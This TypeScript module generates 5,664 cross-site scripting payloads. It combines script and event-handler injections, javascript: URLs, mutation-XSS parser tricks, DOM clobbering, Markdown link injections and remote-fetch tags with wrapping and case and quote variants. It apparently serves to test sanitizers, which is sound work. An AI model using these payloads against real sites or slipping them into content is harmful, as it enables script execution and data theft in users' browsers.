/** Markup that tries to run or to fetch: `ran` and `remote` are what a payload sets off, a statement and an address. */
export interface Aims {
  readonly ran: string;
  readonly remote: string;
}

const vectors = ({ ran, remote }: Aims): readonly string[] => [
  `<script>${ran}</script>`,
  `<script src="${remote}"></script>`,
  `<img src=x onerror="${ran}">`,
  `<img src="${remote}" srcset="${remote} 2x">`,
  `<svg onload="${ran}"></svg>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><animate onbegin="${ran}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><a xlink:href="javascript:${ran}"><text y="20">x</text></a></svg>`,
  `<svg><use href="${remote}#x"></use><image href="${remote}"></image></svg>`,
  `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.${ran}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${ran}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${ran}">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${ran}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>">`,
  `<template><img src=x onerror="${ran}"></template>`,
  `<textarea><img title="</textarea><img src=x onerror=${ran}>"></textarea>`,
  `<title><a title="</title><img src=x onerror=${ran}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${ran}>">`,
  `<!--><img src=x onerror="${ran}">-->`,
  `<![CDATA[><img src=x onerror="${ran}">]]>`,
  `<details open ontoggle="${ran}"><summary>x</summary></details>`,
  `<body onload="${ran}" onpageshow="${ran}" background="${remote}">`,
  `<video src="${remote}" poster="${remote}" onerror="${ran}"><source src="${remote}" onerror="${ran}"></video>`,
  `<audio src="${remote}" onerror="${ran}" autoplay></audio>`,
  `<input autofocus onfocus="${ran}"><select autofocus onfocus="${ran}"></select>`,
  `<button formaction="javascript:${ran}" onclick="${ran}">x</button>`,
  `<form action="javascript:${ran}"><input type="submit" value="x"></form>`,
  `<iframe src="javascript:parent.${ran}"></iframe><iframe src="${remote}"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=parent.${ran}>"></iframe>`,
  `<object data="data:text/html,<script>parent.${ran}</script>"></object><embed src="${remote}">`,
  `<link rel="stylesheet" href="${remote}"><link rel="preload" as="image" href="${remote}"><link rel="prefetch" href="${remote}">`,
  `<meta http-equiv="refresh" content="0;url=${remote}"><base href="${remote}"><img src="y.png">`,
  `<style>@import "${remote}"; * { background: url(${remote}) }</style>`,
  `<p style="background: url('${remote}')">x</p>`,
  `<table background="${remote}"><td background="${remote}">x</table>`,
  `<marquee onstart="${ran}">x</marquee>`,
  `<p onpointerover="${ran}" onclick="${ran}" onanimationstart="${ran}" style="animation: x 1s">x</p>`,
  `<a href="javascript:${ran}">x</a><area href="javascript:${ran}">`,
  `<a href="&#106;avascript&colon;${ran}">x</a>`,
  `<a href=" java\tscript:${ran}">x</a>`,
  `<a href="\x01javascript:${ran}">x</a>`,
  `<a href="data:text/html,<script>${ran}</script>">x</a>`,
  `<a href="#" ping="${remote}">x</a>`,
  `<picture><source srcset="${remote}"><img src="${remote}"></picture>`,
  `<img name="body"><img id="location" name="document"><form id="x"><input name="attributes"></form>`,
  `[x](javascript:${ran})`,
  `[x](<java&#115;cript:${ran}>)`,
  `[x]: javascript:${ran}\n\n[x] ![x]`,
  `<javascript:${ran}>`,
  `![x](${remote})`,
  `![x](javascript:${ran})`,
  `![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='${ran}'/%3E)`,
  `![x"onerror="${ran}](y.png "x" onerror="${ran}")`,
  `[x](y "\\"onclick=${ran} x=\\"")`,
  `\`\`\`"><img src=x onerror="${ran}">\nx\n\`\`\``,
  `[^x]\n\n[^x]: <img src=x onerror="${ran}">`,
  `| <img src=x onerror="${ran}"> |\n| --- |\n| <svg onload="${ran}"> |`,
  `{\\rtf1\\ansi{\\field{\\*\\fldinst HYPERLINK "javascript:${ran}"}{\\fldrslt x}}{\\object\\objdata 01}}<img src=x onerror="${ran}">`,
];

const wraps: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => `<div>${markup}</div>`,
  (markup) => `> ${markup}`,
  (markup) => `- ${markup}\n- x`,
  (markup) => `# ${markup}`,
  (markup) => `**${markup}**`,
  (markup) => `<svg>${markup}</svg>`,
  (markup) => `<math><mtext>${markup}</mtext></math>`,
  (markup) => `<table><tr><td>${markup}`,
  (markup) => `<select><option>${markup}`,
  (markup) => `<svg><desc>${markup}`,
  (markup) => `<p title="${markup.replaceAll('"', "&quot;")}">${markup}`,
];

const spellings: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.replace(/<(\w+)/gu, (_tag, name: string) => `<${[...name].map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter)).join("")}`),
  (markup) => markup.replace(/<(\w+) /gu, "<$1/"),
  (markup) => markup.replace(/<(\w+) /gu, "<$1\n"),
  (markup) => markup.replaceAll(">", " x=1>"),
  (markup) => markup.replaceAll('"', "'"),
  (markup) => markup.replaceAll('"', "`"),
  (markup) => `<<${markup}`,
];

/** Every vector in every wrap and spelling, 5,664 of them. */
export function hostileMarkup(aims: Aims): readonly string[] {
  return spellings.flatMap((spell) => wraps.flatMap((wrap) => vectors(aims).map((markup) => wrap(spell(markup)))));
}
